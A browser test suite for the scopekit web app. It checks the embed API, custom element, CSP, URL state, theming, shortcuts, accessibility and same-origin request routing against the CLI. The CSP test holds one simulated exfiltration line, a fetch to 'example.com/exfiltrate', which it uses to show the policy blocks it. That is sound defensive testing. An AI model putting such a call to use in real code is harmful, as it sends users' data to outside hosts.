// Embedding, privacy and usability of the scopekit web app, in headless Chromium:
// embed.js (analyze()), <scopekit-view>, demo.html, the Content-Security-Policy, URL state,
// theme, keyboard shortcuts; screenshots into target/screenshots/embed-*.png.
//
//   SCOPEKIT_BIN=target/release/scopekit node --test tests/browser/embed.test.js
//
// Needs /usr/bin/chromium (override with CHROMIUM), python3 with numpy, and web/pkg built.

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { startServer, launchBrowser } from './harness.js';


const REPO = fileURLToPath(new URL('../../', import.meta.url));
const BIN = process.env.SCOPEKIT_BIN || path.join(REPO, 'target', 'release', 'scopekit');
const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
const SHOTS = path.join(REPO, 'target', 'screenshots');
const UART_SR = path.join(REPO, '..', 'shared', 'data', 'sigrok', 'uart', 'hello_world_8n1_115200', 'hello_world_8n1_115200.sr');

const GENERATE = String.raw`
import sys, numpy as np
out = sys.argv[1]
rng = np.random.default_rng(7)
a = np.empty((20000, 3), dtype=np.float32)
a[:, 0] = np.sin(np.arange(20000) / 50.0)
a[:, 1] = rng.standard_normal(20000)
a[:, 2] = np.arange(20000) % 17
np.save(f"{out}/three.npy", a)
np.save(f"{out}/two.npy", (np.arange(4000, dtype="<i2") % 100).reshape(2000, 2))
np.save(f"{out}/big.npy", np.zeros((12_000_000, 1), dtype=np.float64))
`;

function cli(args) {
  return JSON.parse(execFileSync(BIN, args, { encoding: 'utf8', maxBuffer: 64 << 20 }));
}

describe('scopekit embedding and privacy', () => {
  let work;
  let server;
  let origin;
  let context;
  let page;
  const pageErrors = [];
  const foreign = [];
  const seen = [];

  before(async () => {
    assert.ok(existsSync(BIN), `scopekit binary not found at ${BIN}`);
    work = mkdtempSync(path.join(tmpdir(), 'scopekit-embed-'));
    const data = path.join(work, 'data');
    const home = path.join(work, 'home');
    mkdirSync(data, { recursive: true });
    mkdirSync(home, { recursive: true });
    execFileSync('python3', ['-c', GENERATE, data], { stdio: 'inherit' });
    copyFileSync(UART_SR, path.join(data, 'hello.sr'));
    server = await startServer(BIN, REPO);
    origin = new URL(server.url).origin;
    context = await launchBrowser(path.join(work, 'profile'), home);
    // Every request of every page and worker: same-origin (or local data:/blob:) only.
    await context.route('**/*', (route) => {
      const url = route.request().url();
      seen.push(url);
      if (url.startsWith('data:') || url.startsWith('blob:') || new URL(url).origin === origin) return route.continue();
      foreign.push(url);
      return route.abort('blockedbyclient');
    });
    page = context.pages()[0] ?? (await context.newPage());
    page.on('pageerror', (e) => pageErrors.push(e.message));
  });

  after(async () => {
    await context?.close().catch(() => {});
    server?.proc.kill('SIGTERM');
    if (work) rmSync(work, { recursive: true, force: true });
  });

  const file = (name) => path.join(work, 'data', name);
  const result = () => page.getByTestId('result');

  async function openIndex(hash = '') {
    await page.goto(`${server.url}${hash}`, { waitUntil: 'load' });
    await page.locator('html[data-ready="true"][data-shortcuts="ready"][data-url-state="ready"]').waitFor({ state: 'attached' });
  }

  async function openDemo() {
    await page.goto(`${server.url}demo.html`, { waitUntil: 'load' });
    await page.locator('html[data-ready="true"][data-shortcuts="ready"]').waitFor({ state: 'attached' });
  }

  /** Drop bytes as a file on the index page's drop zone. */
  async function drop(name, bytes) {
    await page.getByTestId('drop-zone').evaluate((zone, [n, data]) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([new Uint8Array(data)], n));
      for (const type of ['dragenter', 'dragover', 'drop']) {
        zone.dispatchEvent(new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true }));
      }
    }, [name, [...bytes]]);
  }

  async function waitRun(run, states = ['done', 'error']) {
    await page.waitForFunction(([r, s]) => {
      const el = document.querySelector('[data-testid="result"]');
      return Number(el.dataset.run ?? 0) >= r && s.includes(el.dataset.state);
    }, [run, states], { timeout: 60_000, polling: 50 });
  }

  test('CSP: header and meta on both pages; an injected external fetch is blocked', async () => {
    for (const p of ['', 'demo.html']) {
      const response = await page.goto(`${server.url}${p}`, { waitUntil: 'load' });
      const header = await response.headerValue('content-security-policy');
      assert.match(header ?? '', /default-src 'self'/);
      assert.match(header, /connect-src 'self' blob:;/);
      assert.match(header, /script-src 'self' 'wasm-unsafe-eval'/);
      const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      assert.equal(meta, header, `${p || 'index.html'}: meta and header differ`);
      const out = await page.evaluate(async () => {
        const violation = new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve({ uri: e.blockedURI, directive: e.effectiveDirective }), { once: true });
        });
        const fetched = await fetch('https://example.com/exfiltrate?x=1').then(() => 'loaded', (e) => `blocked: ${e.name}`);
        return { fetched, violation: await violation };
      });
      assert.match(out.fetched, /^blocked/);
      assert.equal(out.violation.directive, 'connect-src');
      assert.match(out.violation.uri, /^https:\/\/example\.com/);
    }
    assert.equal(await page.evaluate(() => self.crossOriginIsolated), true);
  });

  test('demo page: the elements show results equal to the CLI (URL path, stats and decode)', async () => {
    await openDemo();
    const done = (id) => page.waitForFunction((i) => ['done', 'error'].includes(document.getElementById(i)?.dataset.state), id, { timeout: 60_000 });
    await done('view-ramp');
    await done('view-uart');
    const ramp = await page.evaluate(() => document.getElementById('view-ramp').result);
    assert.ok(ramp, await page.evaluate(() => document.getElementById('view-ramp').shadowRoot.textContent));
    assert.deepStrictEqual(ramp, cli(['stats', path.join(REPO, 'web', 'samples', 'ramp.npy'), '--json']));
    assert.equal(await page.locator('#view-ramp').locator('tbody tr').count(), 2);
    const uart = await page.evaluate(() => document.getElementById('view-uart').result);
    assert.deepStrictEqual(uart, cli(['decode', 'uart', path.join(REPO, 'web', 'samples', 'uart.csv'), '--tx', 'TX', '--baudrate', '9600', '--json']));
    assert.equal(uart.frames.map((f) => String.fromCharCode(f.value)).join(''), 'scopekit\n');
    assert.match(await page.locator('#view-uart').locator('caption').textContent(), /9 frames · 0 errors/);
    // The API button: analyze() on a same-origin URL.
    await page.getByTestId('demo-api-run').click();
    await page.locator('[data-testid="demo-api-out"][data-json]').waitFor({ state: 'attached', timeout: 30_000 });
    const api = JSON.parse(await page.getByTestId('demo-api-out').getAttribute('data-json'));
    assert.deepStrictEqual(api, cli(['stats', path.join(REPO, 'web', 'samples', 'ramp.npy'), '--channel', '1', '--json']));
  });

  test('analyze(): File stats and decode equal the CLI; Blob, blob: URL; cross-origin URL refused', async () => {
    await openDemo();
    const three = [...readFileSync(file('three.npy'))];
    const sr = [...readFileSync(file('hello.sr'))];
    const out = await page.evaluate(async ([a, b]) => {
      const { analyze } = await import('./embed.js');
      const progress = [];
      const stats = await analyze(new File([new Uint8Array(a)], 'three.npy'), {}, { onProgress: (p) => progress.push(p) });
      const decode = await analyze(new File([new Uint8Array(b)], 'hello.sr'), { kind: 'decode', protocol: 'uart', roles: { tx: 'TX' } });
      const guessed = await analyze(new Blob([new Uint8Array(b)]), { kind: 'decode', protocol: 'uart' });
      const url = URL.createObjectURL(new Blob([new Uint8Array(a)]));
      const viaBlobUrl = await analyze(url, { channel: 2 });
      URL.revokeObjectURL(url);
      const refused = await analyze('https://example.com/capture.npy').then(() => 'resolved', (e) => e.message);
      const refusedData = await analyze('data:application/octet-stream,abc').then(() => 'resolved', (e) => e.message);
      const badKind = await analyze(new Blob([]), { kind: 'fft' }).then(() => 'resolved', (e) => e.message);
      const controller = new AbortController();
      const pending = analyze(new Blob([new Uint8Array(a)]), {}, { signal: controller.signal });
      controller.abort();
      const aborted = await pending.then(() => 'resolved', (e) => e.name);
      return { stats, decode, guessed, viaBlobUrl, refused, refusedData, badKind, aborted, last: progress.at(-1) };
    }, [three, sr]);
    assert.deepStrictEqual(out.stats, cli(['stats', file('three.npy'), '--json']));
    assert.deepStrictEqual(out.last, { loaded: three.length, total: three.length, kind: 'stats' });
    const cliDecode = cli(['decode', 'uart', file('hello.sr'), '--tx', 'TX', '--json']);
    assert.deepStrictEqual(out.decode, cliDecode);
    assert.deepStrictEqual(out.guessed, cliDecode);
    assert.equal(out.decode.frames.length, 42);
    assert.deepStrictEqual(out.viaBlobUrl, cli(['stats', file('three.npy'), '--channel', '2', '--json']));
    assert.match(out.refused, /same-origin/);
    assert.match(out.refusedData, /data: URL/);
    assert.match(out.badKind, /unknown kind/);
    assert.equal(out.aborted, 'AbortError');
  });

  test('element: a second file replaces the first; events; Esc cancels', async () => {
    await openDemo();
    const two = [...readFileSync(file('two.npy'))];
    const three = [...readFileSync(file('three.npy'))];
    const out = await page.evaluate(async ([a, b]) => {
      const view = document.getElementById('view-file');
      const events = [];
      view.addEventListener('scopekit-result', (e) => events.push(e.detail.run));
      const got = new Promise((resolve) => view.addEventListener('scopekit-result', resolve, { once: true }));
      view.file = new File([new Uint8Array(a)], 'first.npy');
      await new Promise((r) => setTimeout(r, 0));
      const firstRun = Number(view.dataset.run);
      view.file = new File([new Uint8Array(b)], 'second.npy');
      await got;
      await new Promise((r) => setTimeout(r, 300));
      return { firstRun, run: Number(view.dataset.run), events, channels: view.result.channels.length,
        rows: view.shadowRoot.querySelectorAll('tbody tr').length, title: view.shadowRoot.querySelector('.title').textContent };
    }, [two, three]);
    assert.equal(out.run, out.firstRun + 1);
    assert.deepStrictEqual(out.events, [out.run], 'only the second run reports a result');
    assert.equal(out.channels, 3);
    assert.equal(out.rows, 3);
    assert.equal(out.title, 'second.npy');

    // Esc cancels a running element analysis.
    await page.getByTestId('demo-file').setInputFiles(file('big.npy'));
    const cancelled = await page.evaluate(async () => {
      const view = document.getElementById('view-file');
      const t0 = performance.now();
      while (view.dataset.state !== 'running' && performance.now() - t0 < 5000) await new Promise((r) => setTimeout(r, 1));
      const was = view.dataset.state;
      document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, cancelable: true }));
      await new Promise((r) => setTimeout(r, 50));
      return `${was} → ${view.dataset.state}`;
    });
    assert.equal(cancelled, 'running → idle');
    assert.equal(await page.evaluate(() => document.getElementById('view-file').result), null);
  });

  test('index: a second dropped file replaces the first cleanly; Esc cancels', async () => {
    await openIndex();
    const before = Number((await result().getAttribute('data-run')) ?? 0);
    await drop('first.npy', readFileSync(file('three.npy')));
    await waitRun(before + 1);
    assert.equal(await page.locator('[data-testid="stats-table"] tbody tr').count(), 3);
    await drop('second.npy', readFileSync(file('two.npy')));
    await waitRun(before + 2);
    assert.equal(await result().getAttribute('data-run'), String(before + 2));
    assert.equal(await page.getByTestId('file-name').textContent(), 'second.npy');
    assert.equal(await page.locator('[data-testid="stats-table"] tbody tr').count(), 2, 'rows of the first file remain');
    assert.deepStrictEqual(JSON.parse(await result().getAttribute('data-json')), cli(['stats', file('two.npy'), '--json']));

    await page.getByTestId('file-input').setInputFiles(file('big.npy'));
    await page.getByTestId('cancel').waitFor({ state: 'visible', timeout: 5_000 });
    await page.keyboard.press('Escape');
    await waitRun(before + 3, ['idle']);
    assert.equal(await result().getAttribute('data-json'), null);
    assert.equal(await page.getByTestId('status').textContent(), 'Cancelled.');
  });

  test('URL state: settings round-trip through the fragment, never the data', async () => {
    await openIndex();
    await page.getByTestId('channel').fill('1');
    await page.getByTestId('rate').fill('2500');
    const hash = await page.evaluate(() => location.hash);
    assert.match(hash, /channel=1/);
    assert.match(hash, /rate=2500/);
    await page.reload({ waitUntil: 'load' });
    await page.locator('html[data-url-state="ready"]').waitFor({ state: 'attached' });
    assert.equal(await page.getByTestId('channel').inputValue(), '1');
    assert.equal(await page.getByTestId('rate').inputValue(), '2500');
    // A shared link with decoder settings applies them when a file arrives.
    await openIndex('#protocol=uart&opt.baudrate=9600&role.tx=0');
    const run = Number((await result().getAttribute('data-run')) ?? 0);
    await drop('hello.sr', readFileSync(file('hello.sr')));
    await waitRun(run + 1);
    await page.getByTestId('decode-view').waitFor({ state: 'visible' });
    await page.waitForFunction(() => document.querySelector('[data-testid="decode-opt-baudrate"]')?.value === '9600');
    assert.equal(await page.getByTestId('decode-protocol').inputValue(), 'uart');
    assert.equal(await page.getByTestId('decode-role-tx').inputValue(), '0');
    const after = await page.evaluate(() => location.hash);
    assert.doesNotMatch(after, /hello|\.sr/);
    await page.evaluate(() => history.replaceState(null, '', location.pathname));
  });

  test('theme toggle switches the class on <html> and persists; shortcuts t, ?, o', async () => {
    await openIndex();
    await page.evaluate(() => localStorage.removeItem('scopekit-theme'));
    await page.reload({ waitUntil: 'load' });
    const cls = () => page.evaluate(() => document.documentElement.className);
    assert.doesNotMatch(await cls(), /theme-/);
    const toggle = page.getByTestId('theme-toggle');
    await toggle.click();
    assert.match(await cls(), /\btheme-light\b/);
    await toggle.click();
    assert.match(await cls(), /\btheme-dark\b/);
    assert.match(await toggle.getAttribute('aria-label'), /dark/);
    await page.reload({ waitUntil: 'load' });
    await page.locator('html[data-shortcuts="ready"]').waitFor({ state: 'attached' });
    assert.match(await cls(), /\btheme-dark\b/);
    const bg = await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    assert.equal(bg, 'rgb(20, 23, 28)');
    await page.keyboard.press('t');
    assert.doesNotMatch(await cls(), /theme-/);
    assert.equal(await page.evaluate(() => localStorage.getItem('scopekit-theme')), null);

    await page.keyboard.press('?');
    const help = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
    await help.waitFor({ state: 'visible' });
    assert.match(await help.textContent(), /Open a file/);
    await page.keyboard.press('Escape');
    await help.waitFor({ state: 'hidden' });
    const chooser = page.waitForEvent('filechooser', { timeout: 5_000 });
    await page.locator('body').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('o');
    await chooser;
  });

  test('accessible labels: every control of both pages has a name', async () => {
    for (const open of [openIndex, openDemo]) {
      await open();
      const unnamed = await page.evaluate(() => [...document.querySelectorAll('input, select, button, progress')]
        .filter((c) => !(c.labels?.length || c.getAttribute('aria-label') || c.getAttribute('aria-labelledby') || c.textContent.trim()))
        .map((c) => c.outerHTML.slice(0, 80)));
      assert.deepStrictEqual(unnamed, [], open.name);
      const views = await page.evaluate(() => [...document.querySelectorAll('scopekit-view')].map((v) => v.getAttribute('aria-label')));
      for (const v of views) assert.ok(v, 'scopekit-view without aria-label');
    }
  });

  test('screenshots at 1280×720 and 1920×1080, light and dark', { timeout: 120_000 }, async () => {
    mkdirSync(SHOTS, { recursive: true });
    for (const [w, h] of [[1280, 720], [1920, 1080]]) {
      await page.setViewportSize({ width: w, height: h });
      for (const theme of ['light', 'dark']) {
        await openIndex();
        await page.evaluate((t) => window.scopekitTheme.set(t), theme);
        const run = Number((await result().getAttribute('data-run')) ?? 0);
        await drop('three.npy', readFileSync(file('three.npy')));
        await waitRun(run + 1);
        const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        assert.ok(overflow <= 0, `index at ${w}×${h} scrolls horizontally by ${overflow}px`);
        await page.screenshot({ path: path.join(SHOTS, `embed-index-${w}x${h}-${theme}.png`) });
        await openDemo();
        await page.waitForFunction(() => [...document.querySelectorAll('scopekit-view[src]')].every((v) => v.dataset.state === 'done'), null, { timeout: 60_000 });
        const overflowDemo = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
        assert.ok(overflowDemo <= 0, `demo at ${w}×${h} scrolls horizontally by ${overflowDemo}px`);
        await page.screenshot({ path: path.join(SHOTS, `embed-demo-${w}x${h}-${theme}.png`) });
      }
    }
    await page.evaluate(() => window.scopekitTheme.set('auto'));
  });

  test('no uncaught errors; every request stayed on the origin', () => {
    assert.deepStrictEqual(pageErrors, []);
    assert.deepStrictEqual(foreign, []);
    assert.ok(seen.some((u) => u.endsWith('.wasm')), 'the wasm module was requested through the route');
  });
});
